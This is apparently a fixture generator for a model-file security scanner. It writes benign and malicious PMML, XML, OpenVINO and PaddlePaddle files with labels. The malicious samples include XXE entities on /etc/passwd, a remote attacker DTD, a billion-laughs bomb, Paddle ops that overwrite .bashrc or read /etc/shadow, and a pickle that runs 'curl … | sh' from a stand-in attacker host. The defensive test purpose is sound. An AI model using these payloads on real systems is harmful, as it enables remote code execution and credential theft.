"""Writes test/fixtures/formats/xml-frameworks/: XML, PMML, OpenVINO IR and PaddlePaddle files, with labels.json.

Run with the project venv: `python scripts/gen_xml_frameworks_fixtures.py`. Deterministic.

- XML and PMML documents are written by hand following the PMML 4.4 schema (https://dmg.org/pmml/v4-4-1/
  GeneralStructure.html, TreeModel.html, Regression.html, MultipleModels.html, NeuralNetwork.html) and checked
  for well-formedness with lxml. The XXE, XInclude and entity-expansion labels are proved with lxml: the
  generator copies the file into a temporary folder next to a marker file it creates and shows that lxml
  with resolve_entities=True (or xinclude()) reads the marker, and that resolve_entities=False / no_network
  do not.
- OpenVINO IR is built by hand from the IR specification (https://docs.openvino.ai/2024/documentation/
  openvino-ir-format/operation-sets.html and .../operation-sets/available-opsets/opset1.html): openvino is
  not installable here.
- PaddlePaddle programs are built by hand from paddle/fluid/framework/framework.proto (proto2; field numbers
  cited below); paddle is not installable here. Each program is parsed back with the protobuf library
  against a descriptor built from the same field numbers, an oracle independent of the TypeScript reader.
- .pdparams are pickles (protocol 4) of dicts of numpy arrays, as paddle.save writes them.
"""

import io
import json
import os
import pickle
import shutil
import struct
import tempfile

import lxml
import numpy as np
from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
from google.protobuf import __version__ as PROTOBUF_VERSION
from lxml import etree

ROOT = os.path.join(os.path.dirname(__file__), "..", "test", "fixtures", "formats", "xml-frameworks")
LXML = f"lxml {lxml.__version__}"
PMML_SCHEMA = "hand-built from the PMML 4.4 schema (dmg.org/pmml/v4-4-1), well-formedness checked with " + LXML
OV_SPEC = "hand-built from the OpenVINO IR v11 specification (docs.openvino.ai openvino-ir-format, opset1)"
PADDLE_SPEC = (
    "hand-built from paddle/fluid/framework/framework.proto, parsed back with protobuf " + PROTOBUF_VERSION
)
labels = []


def write(path, data, expect, fmt, made_by, what):
    full = os.path.join(ROOT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data.encode("utf-8") if isinstance(data, str) else data)
    labels.append({"path": path, "expect": expect, "format": fmt, "madeBy": made_by, "what": what})
    return full


def well_formed(text):
    etree.fromstring(text.encode("utf-8") if isinstance(text, str) else text, etree.XMLParser(resolve_entities=False))


# ---------------------------------------------------------------- PMML 4.4

PMML_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="ModelGate test corpus" description="{desc}">
    <Application name="hand-written" version="1"/>
  </Header>
  <DataDictionary numberOfFields="3">
    <DataField name="x1" optype="continuous" dataType="double"/>
    <DataField name="x2" optype="continuous" dataType="double"/>
    <DataField name="y" optype="categorical" dataType="string">
      <Value value="no"/>
      <Value value="yes"/>
    </DataField>
  </DataDictionary>
"""

MINING_SCHEMA = """    <MiningSchema>
      <MiningField name="x1"/>
      <MiningField name="x2"/>
      <MiningField name="y" usageType="target"/>
    </MiningSchema>
"""

TREE = (
    """  <TreeModel modelName="tree" functionName="classification" splitCharacteristic="binarySplit">
"""
    + MINING_SCHEMA
    + """    <Node id="0" score="no">
      <True/>
      <Node id="1" score="yes">
        <SimplePredicate field="x1" operator="greaterThan" value="0.5"/>
      </Node>
      <Node id="2" score="no">
        <SimplePredicate field="x1" operator="lessOrEqual" value="0.5"/>
      </Node>
    </Node>
  </TreeModel>
"""
)

REGRESSION = (
    """  <TransformationDictionary>
    <DefineFunction name="halve" optype="continuous" dataType="double">
      <ParameterField name="v"/>
      <Apply function="/"><FieldRef field="v"/><Constant dataType="double">2</Constant></Apply>
    </DefineFunction>
    <DerivedField name="x1_half" optype="continuous" dataType="double">
      <Apply function="halve"><FieldRef field="x1"/></Apply>
    </DerivedField>
    <DerivedField name="x2_log" optype="continuous" dataType="double">
      <Apply function="ln"><Apply function="+"><FieldRef field="x2"/><Constant dataType="double">1</Constant></Apply></Apply>
    </DerivedField>
  </TransformationDictionary>
  <RegressionModel modelName="logit" functionName="classification" normalizationMethod="logit">
"""
    + MINING_SCHEMA
    + """    <RegressionTable targetCategory="yes" intercept="-0.25">
      <NumericPredictor name="x1_half" coefficient="1.5"/>
      <NumericPredictor name="x2_log" coefficient="-0.75"/>
    </RegressionTable>
    <RegressionTable targetCategory="no" intercept="0"/>
  </RegressionModel>
"""
)

NEURAL = (
    """  <NeuralNetwork modelName="mlp" functionName="classification" activationFunction="logistic">
"""
    + MINING_SCHEMA
    + """    <NeuralInputs numberOfInputs="2">
      <NeuralInput id="0"><DerivedField optype="continuous" dataType="double"><FieldRef field="x1"/></DerivedField></NeuralInput>
      <NeuralInput id="1"><DerivedField optype="continuous" dataType="double"><FieldRef field="x2"/></DerivedField></NeuralInput>
    </NeuralInputs>
    <NeuralLayer numberOfNeurons="2">
      <Neuron id="2" bias="0.1"><Con from="0" weight="0.5"/><Con from="1" weight="-0.5"/></Neuron>
      <Neuron id="3" bias="-0.1"><Con from="0" weight="-0.3"/><Con from="1" weight="0.8"/></Neuron>
    </NeuralLayer>
    <NeuralLayer activationFunction="identity" normalizationMethod="softmax" numberOfNeurons="2">
      <Neuron id="4" bias="0"><Con from="2" weight="1"/><Con from="3" weight="-1"/></Neuron>
      <Neuron id="5" bias="0"><Con from="2" weight="-1"/><Con from="3" weight="1"/></Neuron>
    </NeuralLayer>
    <NeuralOutputs numberOfOutputs="2">
      <NeuralOutput outputNeuron="4"><DerivedField optype="categorical" dataType="string"><NormDiscrete field="y" value="yes"/></DerivedField></NeuralOutput>
      <NeuralOutput outputNeuron="5"><DerivedField optype="categorical" dataType="string"><NormDiscrete field="y" value="no"/></DerivedField></NeuralOutput>
    </NeuralOutputs>
  </NeuralNetwork>
"""
)

MINING = (
    """  <MiningModel modelName="forest" functionName="classification">
"""
    + MINING_SCHEMA
    + """    <Segmentation multipleModelMethod="majorityVote">
      <Segment id="1"><True/>
"""
    + TREE.replace("  <TreeModel", "        <TreeModel")
    + """      </Segment>
      <Segment id="2"><True/>
"""
    + TREE.replace('value="0.5"', 'value="0.25"')
    + """      </Segment>
    </Segmentation>
  </MiningModel>
"""
)


def pmml(desc, body, doctype=""):
    head = PMML_HEAD.format(desc=desc)
    if doctype:
        head = head.replace("\n<PMML", f"\n{doctype}\n<PMML", 1)
    return head + body + "</PMML>\n"


def annotated(text, content):
    """Puts `content` in a Header Annotation (PMML 4.4 Header: Application?, Annotation*, Timestamp?)."""
    return text.replace("  </Header>", f"    <Annotation>{content}</Annotation>\n  </Header>", 1)


def prove_xxe(path, marker_name, marker):
    """lxml with resolve_entities=True reads the marker file we place beside the document; with False it does not."""
    with tempfile.TemporaryDirectory() as tmp:
        doc = os.path.join(tmp, os.path.basename(path))
        shutil.copy(path, doc)
        with open(os.path.join(tmp, marker_name), "w") as f:
            f.write(marker)
        resolving = etree.parse(doc, etree.XMLParser(resolve_entities=True, no_network=True))
        assert marker in etree.tostring(resolving, encoding="unicode"), "lxml did not resolve the entity"
        safe = etree.parse(doc, etree.XMLParser(resolve_entities=False, no_network=True))
        assert marker not in etree.tostring(safe, encoding="unicode"), "lxml resolved with resolve_entities=False"


def gen_pmml():
    for name, desc, body in [
        ("tree-model.pmml", "decision tree", TREE),
        ("regression-model.pmml", "logistic regression with derived fields", REGRESSION),
        ("neural-network.pmml", "two-layer neural network", NEURAL),
        ("mining-model.pmml", "majority vote of two trees", MINING),
    ]:
        text = pmml(desc, body)
        well_formed(text)
        write(f"pmml/{name}", text, "benign", "pmml", PMML_SCHEMA, f"PMML 4.4 {desc}, no DOCTYPE, no Extension")

    xxe = annotated(pmml("xxe", TREE, '<!DOCTYPE PMML [<!ENTITY leak SYSTEM "model-secret.txt">]>'), "&leak;")
    path = write("pmml/xxe-local-file.pmml", xxe, "malicious", "pmml", PMML_SCHEMA,
                 "PMML whose DOCTYPE declares an external entity read from a file beside the model; lxml "
                 f"{lxml.__version__} with resolve_entities=True reads it into the Header's Annotation, with "
                 "resolve_entities=False it does not (checked by the generator)")
    prove_xxe(path, "model-secret.txt", "MARKER-5f1c")

    passwd = pmml("xxe", TREE, '<!DOCTYPE PMML [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>')
    write("pmml/xxe-etc-passwd.pmml", passwd, "malicious", "pmml", PMML_SCHEMA,
          "PMML declaring an external entity on file:///etc/passwd (the classic XXE payload, not resolved here)")

    remote = pmml("remote dtd", TREE, '<!DOCTYPE PMML SYSTEM "http://attacker.invalid/pmml.dtd">')
    path = write("pmml/remote-dtd.pmml", remote, "malicious", "pmml", PMML_SCHEMA,
                 "PMML whose DOCTYPE loads an external DTD over HTTP; lxml with load_dtd=True and "
                 "no_network=True refuses it as an attempt to load a network entity (checked by the generator)")
    try:
        etree.parse(path, etree.XMLParser(load_dtd=True, no_network=True))
        raise AssertionError("lxml loaded the remote DTD")
    except OSError as e:
        assert "network" in str(e), str(e)

    lol = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    laughs = annotated(pmml("billion laughs", TREE, f'<!DOCTYPE PMML [<!ENTITY lol0 "lol">{lol}]>'), "&lol9;")
    path = write("pmml/billion-laughs.pmml", laughs, "malicious", "pmml", PMML_SCHEMA,
                 "PMML with nested entities expanding to 10^9 'lol's (CVE-2003-1564); libxml2 through lxml "
                 "with resolve_entities=True refuses it as an entity amplification (checked by the generator)")
    try:
        etree.parse(path, etree.XMLParser(resolve_entities=True))
        raise AssertionError("lxml expanded the billion laughs")
    except etree.XMLSyntaxError as e:
        assert "amplification" in str(e) or "loop" in str(e) or "entit" in str(e).lower(), str(e)

    internal = pmml("internal entity", TREE.replace('score="no">\n      <True/>', 'score="&label;">\n      <True/>', 1),
                    '<!DOCTYPE PMML [<!ENTITY label "no">]>')
    well_formed(internal)
    write("pmml/internal-entity.pmml", internal, "suspicious", "pmml", PMML_SCHEMA,
          "PMML with a DOCTYPE declaring one plain internal entity (no external reference, no nesting)")

    ext = pmml("extension", TREE).replace(
        "  </Header>",
        '    <Extension name="engine" value="vendor"><Script language="groovy">"id".execute()</Script></Extension>\n'
        "  </Header>",
    )
    well_formed(ext)
    write("pmml/vendor-extension.pmml", ext, "suspicious", "pmml", PMML_SCHEMA,
          "PMML whose Header carries an Extension element holding a vendor script element")

    java = pmml("java function", REGRESSION.replace('<Apply function="ln">', '<Apply function="com.example.Exec">'))
    well_formed(java)
    write("pmml/java-function.pmml", java, "suspicious", "pmml", PMML_SCHEMA,
          "PMML calling a function that is neither built in nor defined in the file (JPMML resolves such a "
          "name as a Java class on the host)")

    broken = pmml("broken", TREE).replace("</TreeModel>", "</Tree>")
    try:
        well_formed(broken)
        raise AssertionError("lxml accepted the broken document")
    except etree.XMLSyntaxError:
        pass
    write("pmml/not-well-formed.pmml", broken, "invalid", "pmml", PMML_SCHEMA,
          "PMML with a mismatched end tag; lxml refuses it (checked by the generator)")


# ---------------------------------------------------------------- generic XML

def gen_xml():
    plain = '<?xml version="1.0" encoding="UTF-8"?>\n<labels>\n  <label id="0">cat</label>\n  <label id="1">dog</label>\n</labels>\n'
    well_formed(plain)
    write("xml/labels.xml", plain, "benign", "xml", "hand-written, well-formedness checked with " + LXML,
          "plain XML label map, no DOCTYPE")

    xi = ('<?xml version="1.0"?>\n<config xmlns:xi="http://www.w3.org/2001/XInclude">\n'
          '  <xi:include href="model-secret.txt" parse="text"/>\n</config>\n')
    path = write("xml/xinclude.xml", xi, "malicious", "xml", "hand-written per W3C XInclude 1.0, " + LXML,
                 "XML with an XInclude of a file beside it; lxml's xinclude() reads the file into the "
                 "document (checked by the generator)")
    with tempfile.TemporaryDirectory() as tmp:
        doc = os.path.join(tmp, "xinclude.xml")
        shutil.copy(path, doc)
        with open(os.path.join(tmp, "model-secret.txt"), "w") as f:
            f.write("MARKER-9d2e")
        tree = etree.parse(doc)
        tree.xinclude()
        assert "MARKER-9d2e" in etree.tostring(tree, encoding="unicode")

    latin = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<labels><label>caf\xe9</label></labels>\n'
    data = latin.encode("latin-1")
    well_formed(data)
    write("xml/latin1.xml", data, "unverified", "xml", "hand-written, well-formedness checked with " + LXML,
          "well-formed XML declared and encoded ISO-8859-1 (the check reads UTF-8 only)")

    card = '<p align="center">\n  <img src="logo.png" width="200"/>\n</p>\n\n# Tiny model\n\nA model card.\n'
    write("xml/README.md", card, "benign", "text", "hand-written",
          "markdown model card that opens with an HTML tag: not XML, stays plain text")

    template = ("<s>{% for message in messages %}{% if message['role'] == 'user' %}[INST] {{ message['content'] }} "
                "[/INST]{% else %}{{ message['content'] }}</s>{% endif %}{% endfor %}")
    write("xml/chat_template.jinja", template, "benign", "text", "hand-written",
          "Jinja chat template opening with a literal <s> tag: not XML, left to the chat-template check")


# ---------------------------------------------------------------- OpenVINO IR v11

def ov_port(pid, dims, precision="FP32", names=None):
    n = f' names="{names}"' if names else ""
    return f'<port id="{pid}" precision="{precision}"{n}>' + "".join(f"<dim>{d}</dim>" for d in dims) + "</port>"


def ov_layer(lid, name, typ, data, inputs, outputs, version="opset1"):
    d = " ".join(f'{k}="{v}"' for k, v in data.items())
    parts = [f'\t\t<layer id="{lid}" name="{name}" type="{typ}" version="{version}">']
    if data:
        parts.append(f"\t\t\t<data {d} />")
    if inputs:
        parts.append("\t\t\t<input>" + "".join(inputs) + "</input>")
    if outputs:
        parts.append("\t\t\t<output>" + "".join(outputs) + "</output>")
    parts.append("\t\t</layer>")
    return "\n".join(parts)


def ov_model(weight_size=48, matmul_version="opset1", matmul_type="MatMul", doctype=""):
    layers = [
        ov_layer(0, "input", "Parameter", {"shape": "1,4", "element_type": "f32"}, [], [ov_port(0, [1, 4], names="input")]),
        ov_layer(1, "weight", "Const", {"element_type": "f32", "shape": "3,4", "offset": 0, "size": weight_size}, [],
                 [ov_port(0, [3, 4])]),
        ov_layer(2, "matmul", matmul_type, {"transpose_a": "false", "transpose_b": "true"},
                 [ov_port(0, [1, 4]), ov_port(1, [3, 4])], [ov_port(2, [1, 3])], matmul_version),
        ov_layer(3, "bias", "Const", {"element_type": "f32", "shape": "1,3", "offset": 48, "size": 12}, [],
                 [ov_port(0, [1, 3])]),
        ov_layer(4, "add", "Add", {"auto_broadcast": "numpy"}, [ov_port(0, [1, 3]), ov_port(1, [1, 3])],
                 [ov_port(2, [1, 3])]),
        ov_layer(5, "relu", "Relu", {}, [ov_port(0, [1, 3])], [ov_port(1, [1, 3], names="output")]),
        ov_layer(6, "output", "Result", {}, [ov_port(0, [1, 3])], []),
    ]
    edges = [(0, 0, 2, 0), (1, 0, 2, 1), (2, 2, 4, 0), (3, 0, 4, 1), (4, 2, 5, 0), (5, 1, 6, 0)]
    body = "\n".join(f'\t\t<edge from-layer="{a}" from-port="{b}" to-layer="{c}" to-port="{d}" />' for a, b, c, d in edges)
    return (
        '<?xml version="1.0"?>\n' + (doctype + "\n" if doctype else "") + '<net name="tiny_mlp" version="11">\n\t<layers>\n'
        + "\n".join(layers) + "\n\t</layers>\n\t<edges>\n" + body + "\n\t</edges>\n\t<rt_info>\n"
        '\t\t<Runtime_version value="2024.6.0" />\n\t</rt_info>\n</net>\n'
    )


def gen_openvino():
    weights = np.arange(12, dtype="<f4").reshape(3, 4) / 10
    bias = np.array([[0.5, -0.5, 0.25]], dtype="<f4")
    text = ov_model()
    well_formed(text)
    write("openvino/tiny_mlp.xml", text, "benign", "openvino-ir", OV_SPEC,
          "IR v11 of a one-layer MLP (Parameter, Const, MatMul, Add, Relu, Result; all opset1), weights in tiny_mlp.bin")
    write("openvino/tiny_mlp.bin", weights.tobytes() + bias.tobytes(), "benign", "tensor-data",
          "numpy " + np.__version__,
          "headerless weights of tiny_mlp.xml (60 bytes of float32): unknown content on its own, vouched for "
          "by the folder check from the benign IR that describes it")
    custom = ov_model(matmul_version="custom_opset", matmul_type="MyCustomMatMul")
    write("openvino/custom-op.xml", custom, "suspicious", "openvino-ir", OV_SPEC,
          "IR whose MatMul is replaced by a layer of a non-standard opset (needs a native extension library)")
    write("openvino/bad-const.xml", ov_model(weight_size=4096), "invalid", "openvino-ir", OV_SPEC,
          "IR whose Const claims 4096 bytes for a 3x4 float32 tensor (48 bytes)")
    xxe = ov_model(doctype='<!DOCTYPE net [<!ENTITY w SYSTEM "file:///etc/hostname">]>')
    write("openvino/xxe.xml", xxe, "malicious", "openvino-ir", OV_SPEC,
          "IR with a DOCTYPE declaring an external entity on a local file")


# ---------------------------------------------------------------- PaddlePaddle ProgramDesc

def varint(n):
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def field(no, wire, payload):
    tag = varint((no << 3) | wire)
    if wire == 0:
        return tag + varint(payload)
    return tag + varint(len(payload)) + payload


def s(text):
    return text.encode("utf-8")


# framework.proto: VarType{type=1, lod_tensor=3}, LoDTensorDesc{tensor=1, lod_level=2}, TensorDesc{data_type=1, dims=2}
FP32, LOD_TENSOR, FEED_MINIBATCH, FETCH_LIST = 5, 7, 9, 10


def var_desc(name, vtype, dims=None, persistable=False):
    vt = field(1, 0, vtype)
    if dims is not None:
        tensor = field(1, 0, FP32) + b"".join(field(2, 0, d) for d in dims)
        vt += field(3, 2, field(1, 2, tensor) + field(2, 0, 0))
    # VarDesc{name=1, type=2, persistable=3}
    return field(1, 2, s(name)) + field(2, 2, vt) + field(3, 0, int(persistable))


def attr(name, kind, value):
    # OpDesc.Attr{name=1, type=2, i=3, s=5, b=10}; AttrType INT=0, STRING=2, BOOLEAN=6
    body = field(1, 2, s(name)) + field(2, 0, kind)
    if kind == 0:
        body += field(3, 0, value)
    elif kind == 2:
        body += field(5, 2, s(value))
    elif kind == 6:
        body += field(10, 0, int(value))
    return body


def op_desc(typ, inputs, outputs, attrs=()):
    # OpDesc{inputs=1, outputs=2, type=3, attrs=4}; Var{parameter=1, arguments=2}
    out = b""
    for param, args in inputs:
        out += field(1, 2, field(1, 2, s(param)) + b"".join(field(2, 2, s(a)) for a in args))
    for param, args in outputs:
        out += field(2, 2, field(1, 2, s(param)) + b"".join(field(2, 2, s(a)) for a in args))
    out += field(3, 2, s(typ))
    for a in attrs:
        out += field(4, 2, attr(*a))
    return out


def program(extra_ops=(), replace=None):
    vars_ = [
        var_desc("feed", FEED_MINIBATCH, persistable=True),
        var_desc("fetch", FETCH_LIST, persistable=True),
        var_desc("x", LOD_TENSOR, [-1, 4]),
        var_desc("linear_0.w_0", LOD_TENSOR, [4, 3], persistable=True),
        var_desc("linear_0.b_0", LOD_TENSOR, [3], persistable=True),
        var_desc("linear_1.tmp_0", LOD_TENSOR, [-1, 3]),
        var_desc("linear_1.tmp_1", LOD_TENSOR, [-1, 3]),
        var_desc("relu_0.tmp_0", LOD_TENSOR, [-1, 3]),
    ]
    ops = [
        op_desc("feed", [("X", ["feed"])], [("Out", ["x"])], [("col", 0, 0)]),
        op_desc("matmul_v2", [("X", ["x"]), ("Y", ["linear_0.w_0"])], [("Out", ["linear_1.tmp_0"])],
                [("trans_x", 6, False), ("trans_y", 6, False)]),
        op_desc("elementwise_add", [("X", ["linear_1.tmp_0"]), ("Y", ["linear_0.b_0"])], [("Out", ["linear_1.tmp_1"])],
                [("axis", 0, 1)]),
        op_desc("relu", [("X", ["linear_1.tmp_1"])], [("Out", ["relu_0.tmp_0"])]),
        op_desc("fetch", [("X", ["relu_0.tmp_0"])], [("Out", ["fetch"])], [("col", 0, 0)]),
    ]
    if replace:
        ops = [replace.get(i, o) for i, o in enumerate(ops)]
    ops[4:4] = list(extra_ops)
    # BlockDesc{idx=1, parent_idx=2, vars=3, ops=4, forward_block_idx=5}
    block = field(1, 0, 0) + field(2, 0, -1) + b"".join(field(3, 2, v) for v in vars_) + b"".join(field(4, 2, o) for o in ops)
    block += field(5, 0, -1)
    # ProgramDesc{blocks=1, version=4}
    return field(1, 2, block) + field(4, 2, field(1, 0, 0))


def paddle_descriptor():
    """The messages of framework.proto that the fixtures use, with its field numbers and types."""
    f = descriptor_pb2.FileDescriptorProto(name="framework_subset.proto", package="paddle.framework.proto", syntax="proto2")
    L = descriptor_pb2.FieldDescriptorProto

    def msg(name, fields, parent=None):
        m = (parent.nested_type if parent else f.message_type).add(name=name)
        for fname, no, ftype, label, tname in fields:
            fd = m.field.add(name=fname, number=no, type=ftype, label=label)
            if tname:
                fd.type_name = tname
        return m

    opt, rep = L.LABEL_OPTIONAL, L.LABEL_REPEATED
    op = msg("OpDesc", [("inputs", 1, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.OpDesc.Var"),
                        ("outputs", 2, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.OpDesc.Var"),
                        ("type", 3, L.TYPE_STRING, opt, None),
                        ("attrs", 4, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.OpDesc.Attr"),
                        ("is_target", 5, L.TYPE_BOOL, opt, None)])
    msg("Attr", [("name", 1, L.TYPE_STRING, opt, None), ("type", 2, L.TYPE_INT32, opt, None),
                 ("i", 3, L.TYPE_INT32, opt, None), ("s", 5, L.TYPE_STRING, opt, None),
                 ("b", 10, L.TYPE_BOOL, opt, None)], op)
    msg("Var", [("parameter", 1, L.TYPE_STRING, opt, None), ("arguments", 2, L.TYPE_STRING, rep, None)], op)
    vt = msg("VarType", [("type", 1, L.TYPE_INT32, opt, None),
                         ("lod_tensor", 3, L.TYPE_MESSAGE, opt, ".paddle.framework.proto.VarType.LoDTensorDesc")])
    msg("TensorDesc", [("data_type", 1, L.TYPE_INT32, opt, None), ("dims", 2, L.TYPE_INT64, rep, None)], vt)
    msg("LoDTensorDesc", [("tensor", 1, L.TYPE_MESSAGE, opt, ".paddle.framework.proto.VarType.TensorDesc"),
                          ("lod_level", 2, L.TYPE_INT32, opt, None)], vt)
    msg("VarDesc", [("name", 1, L.TYPE_STRING, opt, None),
                    ("type", 2, L.TYPE_MESSAGE, opt, ".paddle.framework.proto.VarType"),
                    ("persistable", 3, L.TYPE_BOOL, opt, None)])
    msg("BlockDesc", [("idx", 1, L.TYPE_INT32, opt, None), ("parent_idx", 2, L.TYPE_INT32, opt, None),
                      ("vars", 3, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.VarDesc"),
                      ("ops", 4, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.OpDesc"),
                      ("forward_block_idx", 5, L.TYPE_INT32, opt, None)])
    msg("Version", [("version", 1, L.TYPE_INT64, opt, None)])
    msg("ProgramDesc", [("blocks", 1, L.TYPE_MESSAGE, rep, ".paddle.framework.proto.BlockDesc"),
                        ("version", 4, L.TYPE_MESSAGE, opt, ".paddle.framework.proto.Version")])
    pool = descriptor_pool.DescriptorPool()
    pool.Add(f)
    return message_factory.GetMessageClass(pool.FindMessageTypeByName("paddle.framework.proto.ProgramDesc"))


ProgramDesc = paddle_descriptor()


def op_types(data):
    p = ProgramDesc()
    p.ParseFromString(data)
    assert p.blocks[0].idx == 0 and p.blocks[0].parent_idx == -1
    return [o.type for o in p.blocks[0].ops]


def gen_paddle():
    ok = program()
    assert op_types(ok) == ["feed", "matmul_v2", "elementwise_add", "relu", "fetch"]
    write("paddle/inference.pdmodel", ok, "benign", "paddle-program", PADDLE_SPEC,
          "inference program as save_inference_model writes it: feed, matmul_v2, elementwise_add, relu, fetch")

    save = program([op_desc("save_combine", [("X", ["linear_0.w_0", "linear_0.b_0"])], [],
                            [("file_path", 2, "/home/user/.bashrc"), ("overwrite", 6, True)])])
    assert "save_combine" in op_types(save)
    write("paddle/save-combine.pdmodel", save, "malicious", "paddle-program", PADDLE_SPEC,
          "inference program with a save_combine operator that writes the weights over /home/user/.bashrc")

    load = program([op_desc("load", [], [("Out", ["linear_0.w_0"])], [("file_path", 2, "/etc/shadow")])])
    assert "load" in op_types(load)
    write("paddle/load.pdmodel", load, "malicious", "paddle-program", PADDLE_SPEC,
          "inference program with a load operator reading /etc/shadow into a tensor")

    py = program(replace={3: op_desc("py_func", [("X", ["linear_1.tmp_1"])], [("Out", ["relu_0.tmp_0"])],
                                     [("forward_callable_id", 0, 0)])})
    assert "py_func" in op_types(py)
    write("paddle/py-func.pdmodel", py, "malicious", "paddle-program", PADDLE_SPEC,
          "program whose activation is a py_func operator (calls a Python function of the running process)")

    net = program([op_desc("send", [("X", ["relu_0.tmp_0"])], [], [("epmap", 2, "203.0.113.7:6174")])])
    write("paddle/send.pdmodel", net, "malicious", "paddle-program", PADDLE_SPEC,
          "program with a parameter-server send operator to a network endpoint")

    custom = program(replace={3: op_desc("my_custom_relu", [("X", ["linear_1.tmp_1"])], [("Out", ["relu_0.tmp_0"])])})
    write("paddle/custom-op.pdmodel", custom, "unverified", "paddle-program", PADDLE_SPEC,
          "program using an operator not in Paddle's library (a custom operator loaded from a native library)")

    write("paddle/truncated.pdmodel", ok[: len(ok) - 40], "invalid", "paddle-program", PADDLE_SPEC,
          "the inference program cut 40 bytes short: its block runs past the end of the file")

    # .pdiparams: save_combine's stream of LoDTensors (paddle/fluid/framework/lod_tensor.cc SerializeToStream):
    # u32 version 0, u64 lod levels 0, u32 tensor version 0, i32 TensorDesc size, TensorDesc, raw data.
    stream = b""
    for arr in [np.arange(12, dtype="<f4").reshape(4, 3) / 10, np.array([0.5, -0.5, 0.25], dtype="<f4")]:
        desc = field(1, 0, FP32) + b"".join(field(2, 0, d) for d in arr.shape)
        stream += struct.pack("<IQI", 0, 0, 0) + struct.pack("<i", len(desc)) + desc + arr.tobytes()
    params_spec = ("hand-built from paddle/fluid/framework/lod_tensor.cc SerializeToStream and tensor_util.cc "
                   "TensorToStream, numpy " + np.__version__)
    write("paddle/inference.pdiparams", stream, "benign", "paddle-params", params_spec,
          "combined parameters of inference.pdmodel as save_combine writes them: two float32 LoDTensors")
    write("paddle/truncated.pdiparams", stream[:-6], "invalid", "paddle-params", params_spec,
          "the combined parameters cut 6 bytes short: the last tensor's data runs past the end")
    write("paddle/trailing.pdiparams", stream + b"#!/bin/sh\necho hidden\n", "invalid", "paddle-params", params_spec,
          "the combined parameters followed by bytes that are no tensor (a shell script)")

    state = {"linear_0.w_0": np.arange(12, dtype="<f4").reshape(4, 3) / 10,
             "linear_0.b_0": np.array([0.5, -0.5, 0.25], dtype="<f4"),
             "StructuredToParameterName@@": {"linear.weight": "linear_0.w_0", "linear.bias": "linear_0.b_0"}}
    write("paddle/model.pdparams", pickle.dumps(state, protocol=4), "benign", "pickle", f"numpy {np.__version__}, "
          "pickle protocol 4", "paddle.save-style state dict: parameter name to numpy float32 array, plus the "
          "structured-name map")

    class Evil:
        def __reduce__(self):
            return (os.system, ("curl -s http://attacker.invalid/x | sh",))

    evil = pickle.dumps({"linear_0.w_0": state["linear_0.w_0"], "opt": Evil()}, protocol=4)
    write("paddle/evil.pdparams", evil, "malicious", "pickle", "pickle protocol 4 (Python "
          f"{os.sys.version.split()[0]})", "state dict with a value that runs os.system when unpickled")


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    gen_pmml()
    gen_xml()
    gen_openvino()
    gen_paddle()
    with open(os.path.join(ROOT, "labels.json"), "w") as f:
        json.dump({"files": labels}, f, indent=2)
        f.write("\n")
    print(f"wrote {len(labels)} files to {os.path.normpath(ROOT)}")


if __name__ == "__main__":
    main()
